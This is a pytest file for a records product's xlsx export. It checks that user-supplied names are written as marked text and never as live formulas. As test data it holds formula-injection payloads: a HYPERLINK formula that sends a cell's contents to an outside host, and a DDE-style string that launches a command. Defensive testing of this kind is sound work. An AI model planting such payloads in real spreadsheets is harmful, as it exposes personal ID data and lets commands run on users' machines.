"""Every xlsx the product writes holds user text as text (issue 12, item 3: formula injection).

A person registered as ``=HYPERLINK("//e.cn/"&B3)`` must not become a live formula in an official's
export next to full ID numbers: no cell of any sheet is a formula, strings that a spreadsheet would
take for one carry Excel's text marker, and the text itself reads back unchanged.
"""

from __future__ import annotations

import datetime as dt
import re
import zipfile
from io import BytesIO

import pytest
from openpyxl import load_workbook

from jineng.conftest import World
from jineng.core.roles import Role
from jineng.core.xlsx import FORMULA_STARTS, workbook_bytes
from jineng.orgs.services import organisation_register
from jineng.people.services import person_register
from jineng.policy.identity import make_credit_code, make_id_number

HOSTILE = '=HYPERLINK("//e.cn/"&B3)'


def sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(BytesIO(content)) as z:
        return "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet"))


def cells(content: bytes) -> list[tuple[object, str, bool]]:
    sheet = load_workbook(BytesIO(content)).active
    assert sheet is not None
    return [(c.value, c.data_type, bool(c.quotePrefix)) for row in sheet.iter_rows() for c in row]


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_string_that_looks_like_a_formula_is_written_as_marked_text(start: str) -> None:
    value = f"{start}1+cmd|' /C calc'!A0"
    content = workbook_bytes("t", ["姓名"], [[value]])
    assert "<f>" not in sheet_xml(content)
    # (an XML reader gives a lone CR back as LF: the text is the same line break)
    assert (value.replace("\r", "\n"), "s", True) in cells(content)


def test_ordinary_values_keep_their_types_and_no_marker() -> None:
    content = workbook_bytes("t", ["a", "b", "c", "d"], [["李明", 3, dt.date(2021, 5, 1), None]])
    sheet = load_workbook(BytesIO(content)).active
    assert sheet is not None
    a, b, c, d = next(sheet.iter_rows(min_row=2))
    assert (a.value, a.data_type, a.quotePrefix) == ("李明", "s", False)
    assert (b.value, b.data_type) == (3, "n")
    assert c.value == dt.datetime(2021, 5, 1) and c.is_date
    assert d.value is None


def test_control_characters_and_nested_values_become_text_instead_of_an_error() -> None:
    content = workbook_bytes("t", ["a", "b"], [["李\x01明\x0b", {"k": ["=1+1"]}]])
    rows = list(load_workbook(BytesIO(content)).active.iter_rows(min_row=2, values_only=True))  # type: ignore[union-attr]
    assert rows == [("李\ufffd明\ufffd", "{'k': ['=1+1']}")]


def _no_formula_anywhere(content: bytes) -> None:
    xml = sheet_xml(content)
    assert "<f>" not in xml and "<f " not in xml


def test_people_export_holds_the_hostile_name_as_text_next_to_the_full_id(world: World) -> None:
    # Given a person whose name is a formula, registered by the bureau
    id_number = make_id_number("410105", dt.date(1991, 2, 3), 7)
    person_register(actor=None, id_number=id_number, name=HOSTILE, region=world.jinshui, phone="13800000000")
    # When the bureau's first reviewer (who sees whole ID numbers) exports the people list
    response = world.client(world.users[Role.HR_FIRST]).get("/people/", {"format": "xlsx"})
    # Then the name is plain, marked text and no cell is a formula
    assert response.status_code == 200
    _no_formula_anywhere(response.content)
    assert (HOSTILE, "s", True) in cells(response.content)
    assert (id_number, "s", False) in cells(response.content)


def test_masked_export_keeps_a_hostile_value_neutral(world: World) -> None:
    person_register(
        actor=None,
        id_number=make_id_number("410105", dt.date(1991, 2, 3), 9),
        name="@SUM(1+9)*cmd",
        region=world.jinshui,
        phone="13800000001",
    )
    response = world.client(world.users[Role.AUDITOR]).get("/people/", {"format": "xlsx"})
    _no_formula_anywhere(response.content)
    assert ("@SUM(1+9)*cmd", "s", True) in cells(response.content)


def test_organisation_and_audit_log_exports_hold_a_hostile_name_as_text(world: World) -> None:
    organisation_register(
        actor=world.users[Role.HR_ADMIN],
        name=HOSTILE,
        credit_code=make_credit_code("52", "410100", 77),
        kind="private_school",
        region=world.zhengzhou,
    )
    admin = world.client(world.users[Role.HR_ADMIN])
    for url in ("/orgs/", "/audit/"):
        response = admin.get(url, {"format": "xlsx"})
        assert response.status_code == 200, url
        _no_formula_anywhere(response.content)
        assert (HOSTILE, "s", True) in cells(response.content), url


def test_a_roster_row_sent_through_the_api_reads_back_unchanged() -> None:
    # The API's roster rows are written to a sheet and read back by the one roster reader: the text
    # marker must not add an apostrophe or otherwise change a value.
    from jineng.training.roster import sheet_rows

    content = workbook_bytes("花名册", ["姓名", "身份证号"], [["-李明", "410105198001011239"]])
    assert re.search(r"<f>", sheet_xml(content)) is None
    assert [list(r)[:2] for r in sheet_rows(content)][1] == ["-李明", "410105198001011239"]
